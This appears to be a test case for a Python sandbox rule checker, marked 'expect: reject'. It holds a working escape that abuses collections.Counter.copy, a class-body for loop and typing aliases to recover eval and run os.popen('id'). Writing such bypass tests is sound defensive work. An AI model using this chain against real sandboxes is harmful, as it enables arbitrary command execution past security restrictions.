# expect: reject unbound
# line: 19
# verified: reaches its goal under plain python3 (3.11) in a temp dir (eval obtained, ran a process)
# why: issue 13, a library class under a name or in a place the rules did not follow: a for loop in a class body
#
# Mechanism: collections.Counter.copy is `return self.__class__(self)`, a plain
#   function read through the class; with P a class of the program it is type(P),
#   the builtin `type` by value. Here a for over library classes in a class body leaves its target as a class attribute, read through an instance.
# Goal reached: eval obtained and called -> ran a process (`id`).
import collections
import copy, typing


class P:
    pass


class Box:
    for kind in (collections.Counter,):
        pass


ty = Box().kind.copy(P)
alias_class = ty(typing.List[int])
ev = copy.deepcopy(alias_class(int, ("eval",), name="__builtins__"))
print(ev("__import__(\x27os\x27).popen(\x27id\x27).read()"), end="")
